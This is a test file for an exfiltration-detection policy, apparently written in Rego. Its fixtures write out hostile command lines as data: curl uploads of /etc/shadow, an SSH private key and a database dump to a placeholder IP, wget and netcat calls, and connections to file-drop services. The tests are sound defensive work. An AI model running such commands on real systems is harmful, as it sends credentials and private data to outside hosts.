package sentinel.upload_test

import data.sentinel.fixtures as fx
import data.sentinel.upload.alert

form := fx.exec("/usr/bin/dash", "/usr/bin/curl", ["curl", "-F", "file=@/var/www/db.sql", "https://203.0.113.7/"])

test_upload_below_php if {
	alert == {"upload below a server: curl -F file=@/var/www/db.sql https://203.0.113.7/"} with input as fx.under(form, "/usr/sbin/php-fpm8.2")
}

test_wget_and_netcat if {
	count(alert) == 1 with input as fx.under(fx.exec("/usr/bin/dash", "/usr/bin/wget", ["wget", "--post-file=/x", "http://203.0.113.7"]), "/usr/sbin/apache2")
	count(alert) == 1 with input as fx.under(fx.exec("/usr/bin/dash", "/usr/bin/nc.openbsd", ["nc", "203.0.113.7", "443"]), "/usr/sbin/apache2")
}

test_upload_by_a_person if {
	count(alert) == 0 with input as form
}

test_download_below_php if {
	count(alert) == 0 with input as fx.under(fx.exec("/usr/bin/dash", "/usr/bin/curl", ["curl", "-fsS", "https://example.com/feed"]), "/usr/sbin/php-fpm8.2")
}

test_password_file_in_an_upload if {
	count(alert) == 1 with input as fx.exec("/usr/bin/bash", "/usr/bin/curl", ["curl", "--data-binary", "@/etc/shadow", "https://203.0.113.7/"])
	count(alert) == 1 with input as fx.exec("/usr/bin/bash", "/usr/bin/curl", ["curl", "-d@/root/.ssh/id_rsa", "https://203.0.113.7/"])
	count(alert) == 1 with input as fx.exec("/usr/bin/bash", "/usr/bin/scp", ["scp", "/root/.ssh/id_rsa", "host:"])
}

test_body_given_apart_from_its_option if {
	count(alert) == 1 with input as fx.exec("/usr/bin/bash", "/usr/bin/curl", ["curl", "-d", "@/etc/shadow", "https://203.0.113.7/"])
}

test_key_that_is_used_and_not_sent if {
	count(alert) == 0 with input as fx.exec("/usr/bin/bash", "/usr/bin/scp", ["scp", "-i", "/root/.ssh/id_rsa", "notes.txt", "host:"])
	count(alert) == 0 with input as fx.exec("/usr/bin/bash", "/usr/bin/rsync", ["rsync", "--rsh=ssh -i /root/.ssh/id_rsa", "/srv", "host:"])
}

test_ordinary_copy if {
	count(alert) == 0 with input as fx.exec("/usr/bin/bash", "/usr/bin/scp", ["scp", "notes.txt", "host:"])
}

test_python_talks_to_a_drop_service if {
	count(alert) == 1 with input as fx.domain(fx.connect("/usr/bin/python3.11", "203.0.113.8", 443), "a1.oast.fun")
	count(alert) == 1 with input as fx.domain(fx.connect("/usr/bin/curl", "203.0.113.8", 443), "transfer.sh")
	count(alert) == 1 with input as fx.domain(fx.connect("/tmp/x", "203.0.113.8", 443), "file.io")
	count(alert) == 1 with input as fx.domain(fx.connect("/usr/bin/bash", "203.0.113.8", 443), "termbin.com")
}

test_browser_talks_to_one if {
	count(alert) == 0 with input as fx.domain(fx.connect("/usr/lib/firefox/firefox", "203.0.113.8", 443), "discord.com")
}

test_name_that_only_ends_alike if {
	count(alert) == 0 with input as fx.domain(fx.connect("/usr/bin/curl", "203.0.113.8", 443), "notfile.io")
}

test_cloud_tool_below_a_server if {
	count(alert) == 1 with input as fx.under(fx.exec("/usr/bin/dash", "/usr/bin/rclone", ["rclone", "copy", "/srv", "x:"]), "/usr/sbin/nginx")
	count(alert) == 0 with input as fx.exec("/usr/bin/dash", "/usr/bin/rclone", ["rclone", "copy", "/srv", "x:"])
}
